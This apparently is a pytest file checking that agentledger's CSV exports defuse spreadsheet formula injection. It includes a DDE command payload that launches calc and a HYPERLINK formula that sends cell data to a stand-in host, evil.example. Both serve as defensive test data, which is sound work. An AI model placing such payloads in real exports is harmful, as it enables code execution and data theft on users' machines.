"""CSV exports are inert: a cell a spreadsheet would run as a formula is written with a
leading ', as OWASP advises, in every CSV agentledger writes."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from agentledger import Ledger
from agentledger.cli.app import main
from agentledger.records.csv_cells import csv_row, inert_cell, original_cell
from conftest import WriteRun

FORMULA = "=cmd|' /C calc'!A0"
LINK = '+HYPERLINK("https://evil.example/?"&A1,"x")'


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.stdout, result.stderr


@pytest.mark.parametrize("text", [FORMULA, LINK, "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_formula_cell_is_made_inert_and_reads_back(text: str) -> None:
    assert inert_cell(text) == "'" + text
    assert original_cell(inert_cell(text)) == text
    # a text that starts with ' before a formula is kept apart from one made inert
    assert original_cell(inert_cell("'" + text)) == "'" + text


def test_plain_cells_and_numbers_are_left_as_they_are() -> None:
    plain = ["use_case_m", -3, -0.5, None, True, "a=b", "'quoted", "-", "-0.5", "+3", "1e-3"]
    assert csv_row(plain) == plain
    assert csv_row(["-2+3", "-1 ", "-"]) == ["'-2+3", "'-1 ", "-"]  # a formula; not a bare number


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.fixture
def hostile(ledger: Ledger, write_run: WriteRun) -> str:
    return write_run(model_served=FORMULA, variant=LINK)


def test_runs_csv_is_inert(ledger: Ledger, hostile: str) -> None:
    code, out, err = run("runs", "--csv", "--ledger", str(ledger.root))
    assert code == 0, err
    cells = _cells(out)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
    assert "'" + LINK in cells


def test_export_csv_is_inert(ledger: Ledger, hostile: str, tmp_path: Path) -> None:
    target = tmp_path / "runs.csv"
    code, _out, err = run(
        "export", "--ledger", str(ledger.root), "--format", "csv", "-o", str(target)
    )
    assert code == 0, err
    cells = _cells(target.read_text())
    assert "'" + FORMULA in cells and "'" + LINK in cells
    assert FORMULA not in cells and LINK not in cells


def test_labels_export_csv_is_inert_and_imports_back(
    ledger: Ledger, hostile: str, tmp_path: Path
) -> None:
    root = str(ledger.root)
    code, _out, err = run(
        "label", hostile, "--verdict", "unsafe", "--reason", FORMULA, "--by", "mallory",
        "--ledger", root,
    )  # fmt: skip
    assert code == 0, err
    path = tmp_path / "labels.csv"
    code, _out, err = run(
        "labels", "export", "--all", "--format", "csv", "-o", str(path), "--ledger", root
    )
    assert code == 0, err
    cells = _cells(path.read_text())
    assert "'" + FORMULA in cells and FORMULA not in cells
    # Read back by agentledger, the reason is the one given.
    code, out, err = run("labels", "import", str(path), "--ledger", root)
    assert code == 0 and "1 already there" in out, (out, err)


@pytest.mark.parametrize("text", ["x\r=1+1", "x\n=1+1", "x\r\n@SUM(A1)", "ok\r-2+3"])
def test_a_formula_after_a_line_break_is_made_inert_and_reads_back(text: str) -> None:
    assert inert_cell(text) == "'" + text
    assert original_cell(inert_cell(text)) == text
    assert inert_cell("x\r\n-0.5") == "x\r\n-0.5"  # a number on a line is data


def test_a_bare_cr_in_a_reason_is_quoted_and_starts_no_row(
    ledger: Ledger, hostile: str, tmp_path: Path
) -> None:
    root = str(ledger.root)
    reason = "x\r=1+1"
    code, _out, err = run(
        "label", hostile, "--verdict", "safe", "--reason", reason, "--by", "src16",
        "--ledger", root,
    )  # fmt: skip
    assert code == 0, err
    path = tmp_path / "labels.csv"
    code, _out, err = run(
        "labels", "export", "--all", "--format", "csv", "-o", str(path), "--ledger", root
    )
    assert code == 0, err
    data = path.read_bytes()
    assert b'"\'x\r=1+1"' in data  # quoted, and inert
    with path.open(newline="") as handle:
        rows = list(csv.reader(handle))
    assert not any(row and row[0].startswith(("=", "'=")) for row in rows), rows
    assert len(rows) == 2  # the header and the one label: the CR starts no row
    code, out, err = run("labels", "import", str(path), "--ledger", root)
    assert code == 0 and "1 already there" in out, (out, err)
